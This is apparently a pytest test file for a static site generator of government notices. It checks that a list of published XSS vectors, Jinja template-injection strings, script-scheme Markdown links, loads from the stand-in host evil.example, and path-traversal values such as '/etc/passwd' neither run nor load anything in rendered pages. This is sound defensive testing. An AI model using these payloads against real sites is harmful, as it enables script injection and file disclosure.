"""Content is untrusted: published vectors in every field and in the text run nothing and load nothing."""

import json

import pytest

from gongkai import prose
from gongkai.diagnostics import BuildFailed
from gongkai.outcome import Options
from gongkai.pipeline import build
from tests.browser import serve_folder
from tests.parsed_page import ParsedPage
from tests.sites import ORGANIZATION, make_site, notice, notice_path

AS_OF = "2024-12-31"
# From the collections of OWASP (XSS filter evasion) and PortSwigger (XSS cheat sheet), and Markdown's own.
VECTORS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    '<img src="javascript:alert(1)">',
    "<img src=x:x onerror=alert(1)//",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<svg><use href=//evil.example/x.svg#x></use></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button autofocus>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x.png)}</style>",
    '<div style="background:url(//evil.example/x.png)">x</div>',
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<xss id=x tabindex=1 onfocus=alert(1) autofocus></xss>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "{{ 7*7 }}{{ cycler.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    '[x](https://ok.example "onmouseover=alert(1)")',
    "![x](//evil.example/x.png)",
    "![x](x onerror=alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "`<img src=x onerror=alert(1)>`",
    "**<img src=x onerror=alert(1)>**",
    "\\<img src=x onerror=alert(1)\\>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
]


def quoted(text: str) -> str:
    """Return a text as a YAML value in double quotes."""
    return json.dumps(" ".join(text.split()))


def poisoned(vector: str) -> str:
    """Return a notice with the vector in every field that takes any text."""
    flat, q = " ".join(vector.split()), quoted(vector)
    body = f"{vector}\n\n- {flat}\n\n| {flat.replace('|', '')} | b |\n| - | - |\n| {flat.replace('|', '')} | c |\n\n"
    problem = f"### {flat}\n状态：持续推进\n编号：1\n问题：{flat}\n责任单位：{flat}\n\n{vector}\n\n1. {flat}\n"
    return notice(
        body + problem,
        标题=q,
        文号=q,
        索引号=q,
        署名=q,
        有效性=q,
        巡视巡察=f"{{类别: {q}, 机构: {q}, 轮次: {q}}}",
        公布总数=f"{{口径: {q}, 问题: 2}}",
        成效=f"[{{名称: {q}, 数值: 1, 单位: {q}}}]",
        联系方式=f"{{电话: [{{号码: 0571-12345678, 用途: {q}, 时间: {q}}}], 地址: {q}, 办公时间: {q}, 公众号: {q}}}",
        更正记录=f"[{{日期: 2024-05-01, 原因: {q}}}]",
        来源=f"{{标题: {q}}}",
        摘编="true",
    )


@pytest.fixture(scope="module")
def public(tmp_path_factory):
    """A site with each vector in a notice, and all of them in organizations and pages."""
    files = {notice_path(f"2024-{number:02}"): poisoned(vector) for number, vector in enumerate(VECTORS)}
    for number, vector in enumerate(VECTORS):
        q = quoted(vector)
        files[f"content/organizations/poisoned-{number}.yaml"] = (
            f"名称: {q}\n简称: {q}\n类型: {q}\n简介: {q}\n联系方式: {{地址: {q}, 公众号: {q}, 电话: [{{号码: 0571-12345678, 用途: {q}}}]}}\n"
        )
        files[f"content/pages/poisoned-{number}.md"] = f"---\n标题: {q}\n---\n\n{vector}\n"
    site = make_site(tmp_path_factory.mktemp("poisoned"), files)
    settings = site / "site.toml"
    poison = json.dumps("</title><script>alert(1)</script>\"'><img src=x onerror=alert(1)>")
    settings.write_text(
        settings.read_text("utf-8") + f"description = {poison}\noperator = {poison}\nnotices_per_page = 200\n", "utf-8"
    )
    return build(site, Options(as_of=AS_OF, workers=1)).public


def visit(page, requests_seen, url, path):
    """Open a page, touch what could be touched, and fail if anything ran or was loaded."""
    ran = []
    page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
    page.goto(url + path)
    page.evaluate(
        "document.querySelectorAll('main a, main [tabindex]').forEach((x) => { x.focus(); x.dispatchEvent(new MouseEvent('mouseover')) })"
    )
    assert ran == [], path
    names = ("/assets/", "/favicon.ico")
    assert [
        seen
        for seen in requests_seen
        if seen != url + path and not seen.startswith(tuple(url + name for name in names))
    ] == []
    requests_seen.clear()


def _numbers(parts: int) -> list[range]:
    """The numbers of the vectors in so many parts, which run side by side."""
    return [range(part, len(VECTORS), parts) for part in range(parts)]


# The policy must not be what saves us.
@pytest.mark.parametrize("numbers", _numbers(4), ids=lambda numbers: f"from {numbers.start}")
def test_no_vector_runs_or_loads_anything_even_without_the_policy(open_page, requests_seen, public, numbers):
    page = open_page(bypass_csp=True)
    with serve_folder(public) as url:
        for number in numbers:
            visit(page, requests_seen, url, f"/notices/{ORGANIZATION}/2024-{number:02}/")
            visit(page, requests_seen, url, f"/organizations/poisoned-{number}/")
            visit(page, requests_seen, url, f"/poisoned-{number}/")


# Notices have every field that the others have.
@pytest.mark.parametrize("numbers", _numbers(2), ids=lambda numbers: f"from {numbers.start}")
def test_no_vector_violates_the_policy(page, requests_seen, public, numbers):
    with serve_folder(public) as url:
        for number in numbers:
            visit(page, requests_seen, url, f"/notices/{ORGANIZATION}/2024-{number:02}/")


@pytest.mark.parametrize("bypass", [False, True], ids=["with policy", "without policy"])
def test_no_vector_runs_or_loads_anything_in_lists(open_page, requests_seen, public, bypass):
    page = open_page(bypass_csp=bypass)
    with serve_folder(public) as url:
        for path in (
            "/",
            "/notices/",
            "/organizations/",
            f"/organizations/{ORGANIZATION}/",
            "/problems/",
            "/problems/in-progress/",
        ):
            visit(page, requests_seen, url, path)


def test_a_script_written_with_entities_is_no_link_either():
    rendered = prose.html("[x](&#106;avascript:alert(1)) [y](java\tscript:alert(1))").lower()
    assert "href" not in rendered or "javascript" not in rendered.replace("&#106;", "j")


def test_links_with_scripts_lose_their_address(public):
    for path in public.rglob("*.html"):
        for link in ParsedPage(path.read_text("utf-8")).links:
            assert not link.strip().lower().startswith(("javascript", "data", "vbscript")), path


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("来源", '{标题: a, 网址: "javascript:alert(1)"}'),
        ("联系方式", '{表单: "javascript:alert(1)"}'),
        ("联系方式", "{邮箱: 'x\"onmouseover=alert(1)@example.org'}"),
        ("联系方式", "{电话: '<script>alert(1)</script>'}"),
        ("旧网址", "['//evil.example/']"),
        ("附件", "['../../site.toml']"),
        ("附件", "['/etc/passwd']"),
        ("署名", "x\u2028<script>alert(1)</script>"),
    ],
)
def test_fields_with_a_form_refuse_what_has_another(tmp_path, field, value):
    site = make_site(tmp_path, {notice_path(): notice(**{field: value})})
    with pytest.raises(BuildFailed):
        build(site, Options(as_of=AS_OF, workers=1))


def test_a_former_address_cannot_leave_the_public_folder(tmp_path):
    (tmp_path / "site").mkdir()
    site = make_site(tmp_path / "site", {notice_path(): notice(旧网址="['/../../outside.html']")})
    with pytest.raises(BuildFailed):
        build(site, Options(as_of=AS_OF, workers=1))
    assert not list(tmp_path.rglob("outside.html"))
